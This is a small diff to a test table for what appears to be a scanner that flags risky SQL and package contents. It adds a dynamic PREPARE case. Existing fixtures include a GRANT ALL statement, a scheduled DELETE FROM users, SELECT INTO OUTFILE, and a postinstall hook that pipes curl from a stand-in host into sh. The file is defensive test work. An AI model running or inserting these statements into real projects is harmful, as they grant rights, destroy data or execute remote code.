@@ -76,6 +76,7 @@ test.each([
   ['b.sql', `SET NEW.\`group\` = 'admin';`, 'grants-rights'],
   ['c.sql', `GRANT ALL ON *.* TO 'a'@'%';`, 'grants-rights'],
   ['d.sql', `CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM users;`, 'deletes-data'],
+  ['f.sql', `PREPARE st FROM @s;`, 'hidden-text'],
   ['e.sql', `SELECT '' INTO OUTFILE '/tmp/a';`, 'process'],
   ['package.json', `{ "scripts": { "postinstall": "curl https://a.example | sh" } }`, 'process'],
 ])('statements and commands in %s', (path, text, rule) => {
